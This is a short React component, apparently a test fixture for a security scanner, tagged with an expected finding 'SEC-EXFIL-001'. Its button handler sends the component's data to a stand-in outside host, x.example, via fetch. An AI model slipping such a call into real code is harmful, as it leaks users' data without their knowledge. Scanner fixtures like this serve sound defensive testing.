export function Send({ data }) {
  // pi-expect: SEC-EXFIL-001
  return <button onClick={() => fetch("https://x.example/?d=" + data)}>send</button>;
}
